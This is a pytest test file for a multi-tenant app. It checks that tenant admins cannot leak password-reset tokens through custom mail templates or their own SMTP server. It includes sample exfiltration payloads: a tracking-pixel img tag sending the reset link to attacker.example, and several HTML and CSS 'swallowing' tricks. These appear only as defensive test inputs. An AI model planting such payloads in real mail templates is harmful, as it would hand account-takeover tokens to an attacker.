"""A tenant admin cannot take over an account through the mail templates or the SMTP server.

Before: (a) a template could place ``{{ link }}`` anywhere, and the live link replaced it
wherever it was: ``<img src="https://attacker.example/pixel?u={{ link }}">`` in the
password-reset template sent the reset token to the admin's server as soon as the mail was
opened; (b) the admin chooses the tenant's SMTP server, so reset and invitation mails, live
links included, went through the admin's own server. Now the personal link is rendered only
by the platform's layout (one labelled button, one line in the text part), templates that
use it are refused, and mails that let their holder set a password always go through the
platform's SMTP server.
"""

from __future__ import annotations

import email.message
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import jinja2
import jinja2.meta
import pytest
from sqlmodel import Session, select

from app.i18n import LANGUAGES, translate
from app.models import MailTemplate, OutboundMail
from app.services import mail_outbox, mail_templates, tenants, users
from app.services.errors import InvalidInput
from app.services.mail_templates import TEMPLATE_KEYS, TemplateSource
from app.settings import get_settings
from tests.factories import TenantWorld
from tests.smtp_servers import Inbox, self_signed_certificate, smtp_server

TOKEN = re.compile(r"(?:token|k)=([A-Za-z0-9_\-]{16,})")
ENV = jinja2.Environment(autoescape=True)
PIXEL = '<p>Hi {{ name }}</p><img src="https://attacker.example/pixel?u={{ link }}">'


@pytest.fixture
def platform_inbox(monkeypatch: pytest.MonkeyPatch) -> Iterator[Inbox]:
    """The platform's SMTP server (a local relay; TLS: tests/test_smtp_tls.py)."""
    received = Inbox()
    with smtp_server(received) as port:
        monkeypatch.setenv("CONSILIO_SMTP_HOST", "127.0.0.1")
        monkeypatch.setenv("CONSILIO_SMTP_PORT", str(port))
        monkeypatch.setenv("CONSILIO_SMTP_TLS", "none")
        get_settings.cache_clear()
        yield received
    monkeypatch.undo()
    get_settings.cache_clear()


def _parts(message: email.message.Message) -> tuple[str, str]:
    """The HTML and the text part of a delivered mail."""
    found = {"text/html": "", "text/plain": ""}
    for part in message.walk():
        payload = part.get_payload(decode=True)
        if isinstance(payload, bytes) and part.get_content_type() in found:
            found[part.get_content_type()] = payload.decode()
    return found["text/html"], found["text/plain"]


class _Places(HTMLParser):
    """Where a secret shows up in HTML as a mail client reads it: (tag, attribute) pairs,
    ("#text", tag) for text (a <style> or <textarea> swallowing it, say)."""

    def __init__(self, secret: str) -> None:
        super().__init__(convert_charrefs=True)
        self.secret, self.places, self.tags = secret, [], ["#root"]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        marked = ("data-personal-link", None) in attrs or ("data-personal-link", "") in attrs
        for name, value in attrs:
            if value and self.secret in value:
                self.places.append((tag, name, "platform" if marked else "tenant"))

    def handle_endtag(self, tag: str) -> None:
        if tag in self.tags:
            del self.tags[self.tags.index(tag) :]

    def handle_data(self, data: str) -> None:
        if self.secret in data:
            self.places.append(("#text", self.tags[-1], "text"))

    def handle_comment(self, data: str) -> None:
        if self.secret in data:
            self.places.append(("#comment", "", "comment"))


def _places_of(secret: str, html: str) -> list[tuple[str, str, str]]:
    parser = _Places(secret)
    parser.feed(html)
    parser.close()
    return parser.places


def _request_reset_and_deliver(db: Session, world: TenantWorld) -> None:
    users.request_password_reset(db, world.tenant, "advisor@alpha.example")
    db.commit()
    for mail_id in db.exec(select(OutboundMail.id)).all():
        assert mail_id is not None
        mail_outbox.deliver(mail_id)


def _only_in_the_platforms_button(inbox: Inbox) -> str:
    """The delivered reset mail carries its token once in the HTML (the platform's button)
    and once in the text part (the platform's line); returns the token."""
    (message,) = inbox.messages
    html, text = _parts(message)
    tokens = set(TOKEN.findall(html + text))
    assert len(tokens) == 1, tokens
    token = tokens.pop()
    assert _places_of(token, html) == [("a", "href", "platform")]
    assert html.count(token) == 1 and text.count(token) == 1
    (line,) = [line for line in text.splitlines() if token in line]
    assert line.startswith(f"{translate('en', 'mail.password_reset.button')}: http")
    return token


# --- (a) the template ----------------------------------------------------------------------
@pytest.mark.parametrize(
    ("subject", "html", "text"),
    [
        ("Hello", PIXEL, "text"),
        ("Reset {{ link }}", "<p>Hi</p>", "text"),
        ("Hello", "<p>Hi</p>", "Go to {{ link }}"),
        ("Hello", "{% if link is defined %}<a href='{{ link|e }}'>x</a>{% endif %}", "text"),
        ("Hello", "{% set l = link %}<img src='https://a.example/?{{ l }}'>", "text"),
    ],
)
def test_template_that_uses_the_personal_link_is_refused(
    db: Session, alpha: TenantWorld, subject: str, html: str, text: str
) -> None:
    source = TemplateSource("password_reset", "en", subject, html, text, customised=True)
    for call in (mail_templates.preview, mail_templates.save_template):
        with pytest.raises(InvalidInput) as refused:
            call(db, alpha.admin_ctx, source)
        assert refused.value.key == "error.template_personal_link"
    assert db.exec(select(MailTemplate)).all() == []
    assert "button" in translate("en", "error.template_personal_link")


def test_template_saved_before_with_the_link_in_an_attribute_leaks_no_token(
    db: Session, alpha: TenantWorld, platform_inbox: Inbox
) -> None:
    db.add(
        MailTemplate(
            tenant_id=alpha.tenant.id, key="password_reset", locale="en",
            subject="Reset for {{ name }}", body_html=PIXEL, body_text="Here: {{ link }}",
        )
    )  # fmt: skip
    db.commit()
    _request_reset_and_deliver(db, alpha)
    token = _only_in_the_platforms_button(platform_inbox)
    html, text = _parts(platform_inbox.messages[0])
    assert "pixel?u=[personal link]" in html  # the old template still renders, harmless
    assert "Here: [personal link]" in text
    assert users.reset_password(db, alpha.tenant, token, "a brand new long password")


SWALLOWERS = {  # markup left open so that what follows (the platform's button) ends up inside
    "single_quoted_attribute": "<p>Hi</p><img src='https://attacker.example/pixel?u=",
    "unquoted_attribute": "<p>Hi</p><img src=https://attacker.example/pixel?u=",
    "style_block": "<style>p { background: url('https://attacker.example/p?u=",
    "open_comment": "<p>Hi</p><!-- ",
    "open_textarea": "<p>Hi</p><textarea>",
    "css_selector": '<style>a[href*="token="] { background: url(https://attacker.example/t) }'
    "</style><p>Hi</p>",
}


@pytest.mark.parametrize("trick", sorted(SWALLOWERS))
def test_markup_left_open_by_a_template_cannot_swallow_the_personal_link(
    db: Session, alpha: TenantWorld, platform_inbox: Inbox, trick: str
) -> None:
    tenants.update_branding(db, alpha.admin_ctx, name="Alpha's Beratung")  # closes a ' quote
    source = TemplateSource(
        "password_reset", "en", "Reset", SWALLOWERS[trick], "text", customised=True
    )
    mail_templates.save_template(db, alpha.admin_ctx, source)  # no link in it: accepted
    db.commit()
    _request_reset_and_deliver(db, alpha)
    _only_in_the_platforms_button(platform_inbox)
    html, _ = _parts(platform_inbox.messages[0])
    assert "<style" not in html.split("<body", 1)[1]


def test_shipped_templates_carry_no_link_and_get_the_platforms_button(
    db: Session, alpha: TenantWorld
) -> None:
    for key in TEMPLATE_KEYS:
        for lang in LANGUAGES:
            source = mail_templates.default_source(key, lang)
            for part in (source.subject, source.body_html, source.body_text):
                used = jinja2.meta.find_undeclared_variables(ENV.parse(part))
                assert "link" not in used, (key, lang)
            shown = mail_templates.preview(db, alpha.admin_ctx, source)
            assert shown.html.count("data-personal-link") == 1
            assert f"{translate(lang, f'mail.{key}.button')}: " in shown.text


# --- (b) the SMTP server -------------------------------------------------------------------
@pytest.fixture
def tenant_inbox(
    db: Session, alpha: TenantWorld, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> Iterator[Inbox]:
    """Alpha's own SMTP server (STARTTLS), run by its admin (loopback allowed for the test)."""
    received = Inbox()
    certificate = self_signed_certificate(tmp_path)
    with smtp_server(received, tls="starttls", certificate=certificate) as port:
        monkeypatch.setenv("CONSILIO_SMTP_ALLOW_PRIVATE_HOSTS", "true")
        monkeypatch.setenv("CONSILIO_SMTP_CA_FILE", str(certificate.cert_file))
        get_settings.cache_clear()
        alpha.tenant.smtp_host, alpha.tenant.smtp_port = "127.0.0.1", port
        db.add(alpha.tenant)
        db.commit()
        yield received


def _deliver_all(db: Session) -> list[Any]:
    db.commit()
    return [mail_outbox.deliver(i) for i in db.exec(select(OutboundMail.id)).all() if i]


def test_reset_mail_goes_through_the_platforms_server_not_the_tenants(
    db: Session, alpha: TenantWorld, platform_inbox: Inbox, tenant_inbox: Inbox
) -> None:
    _request_reset_and_deliver(db, alpha)
    assert tenant_inbox.messages == []
    assert [m["To"] for m in platform_inbox.messages] == ["advisor@alpha.example"]


def test_invitation_goes_through_the_platforms_server_not_the_tenants(
    db: Session, alpha: TenantWorld, platform_inbox: Inbox, tenant_inbox: Inbox
) -> None:
    users.invite_user(
        db, alpha.admin_ctx, email="new@alpha.example", display_name="New", role="advisor"
    )
    _deliver_all(db)
    assert tenant_inbox.messages == []
    assert [m["To"] for m in platform_inbox.messages] == ["new@alpha.example"]


def test_meeting_invitation_still_goes_through_the_tenants_server(
    db: Session, alpha: TenantWorld, platform_inbox: Inbox, tenant_inbox: Inbox
) -> None:
    mail_outbox.queue_mail(
        db, alpha.tenant, "meeting_invitation", to="eva@example.org", locale="en",
        params={"name": "Eva", "host": "Max", "title": "Beratung"},
        personal_link="https://consilio.localhost/t/alpha/m/room?k=meeting-secret-0123456789",
    )  # fmt: skip
    _deliver_all(db)
    assert platform_inbox.messages == []
    assert [m["To"] for m in tenant_inbox.messages] == ["eva@example.org"]
